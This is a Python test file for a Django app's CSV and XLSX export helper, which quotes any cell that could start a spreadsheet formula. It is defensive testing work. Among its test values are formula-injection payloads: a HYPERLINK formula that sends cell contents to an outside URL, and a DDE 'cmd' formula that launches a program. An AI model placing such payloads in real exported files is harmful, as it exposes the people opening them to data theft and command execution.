"""The one helper every CSV export goes through: no cell may start a spreadsheet formula."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from jalon.core.exports import (
    FORMULA_PREFIXES,
    XLSX_CONTENT_TYPE,
    SafeWriter,
    csv_response,
    export_response,
    neutralise,
    xlsx_response,
)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://exemple.fr/?"&A1;"Voir")', '\'=HYPERLINK("https://exemple.fr/?"&A1;"Voir")'),
        ("+33612345678", "'+33612345678"),
        ("@SUM(1)", "'@SUM(1)"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1+1", "'\0=1+1"),
        ("=cmd|'/c calc'!A0", "'=cmd|'/c calc'!A0"),
        # Text that cannot start a formula, or a negative figure already formatted, is written unchanged.
        ("Dupont", "Dupont"),
        ("Jean-Pierre", "Jean-Pierre"),
        (" =1+1", " =1+1"),
        ("'=1+1", "'=1+1"),
        ("", ""),
        ("-12", "-12"),
        ("-3,5", "-3,5"),
        ("-3.5", "-3.5"),
        ("-3,5-1", "'-3,5-1"),
        ("-12e3", "'-12e3"),
        ("-\u0663", "'-\u0663"),  # only ASCII digits make a figure
        # Figures and dates are values: never quoted, whatever their sign.
        (-12, -12),
        (-3.5, -3.5),
        (Decimal("-3.5"), Decimal("-3.5")),
        (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
        (None, None),
        # What is not text yet is checked once it is.
        (gettext_lazy("=1+1"), "'=1+1"),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written


@given(st.text())
def test_no_text_cell_starts_a_formula_and_nothing_is_lost(text):
    written = neutralise(text)
    assert written in (text, "'" + text)  # at most a quote is added: the reader sees what was stored
    could_be_a_figure = text.startswith("-") and set(text[1:]) <= set("0123456789,.")
    if text.startswith(FORMULA_PREFIXES) and not could_be_a_figure:
        assert written == "'" + text
    if not text.startswith(FORMULA_PREFIXES):
        assert written == text


def test_the_writer_neutralises_every_row(tmp_path):
    path = tmp_path / "rapport.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = SafeWriter(handle)
        writer.writerow(["identifiant", "valeur"])
        writer.writerows([["=1+1", -2], ["@SUM(1)", "ok"]])
    assert list(csv.reader(io.StringIO(path.read_text(encoding="utf-8")))) == [
        ["identifiant", "valeur"],
        ["'=1+1", "-2"],
        ["'@SUM(1)", "ok"],
    ]


def test_the_response_streams_a_french_spreadsheet_csv():
    response = csv_response(iter([["Nom", "Montant"], ["=HYPERLINK(1)", -3], ["Dupont; Marie", "-3,5"]]), "x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")  # the BOM, for the accents
    rows = list(csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["Nom", "Montant"], ["'=HYPERLINK(1)", "-3"], ["Dupont; Marie", "-3,5"]]


def test_the_workbook_holds_the_same_rows_with_no_formula_and_a_bold_header():
    rows = [
        ["Nom", "Montant", "Date"],
        ["=HYPERLINK(1)", Decimal("-3.5"), datetime.date(2026, 12, 1)],
        ["Dupont", 2, None],
    ]
    response = xlsx_response(iter(rows), "x.xlsx")
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [
        ["Nom", "Montant", "Date"],
        ["'=HYPERLINK(1)", -3.5, datetime.datetime(2026, 12, 1)],  # noqa: DTZ001  (a workbook's date has no zone)
        ["Dupont", 2, None],
    ]
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold
    assert sheet["A2"].data_type == "s"  # text, not a formula


def test_a_list_export_answers_in_the_format_asked(rf):
    rows = [["Nom"], ["Dupont"]]
    workbook = export_response(rf.get("/x", {"format": "xlsx"}), iter(rows), "liste-2026-12-01.csv")
    assert workbook["Content-Disposition"] == 'attachment; filename="liste-2026-12-01.xlsx"'
    assert load_workbook(io.BytesIO(workbook.content)).active["A2"].value == "Dupont"
    plain = export_response(rf.get("/x"), iter(rows), "liste-2026-12-01.csv")
    assert plain["Content-Type"] == "text/csv; charset=utf-8"
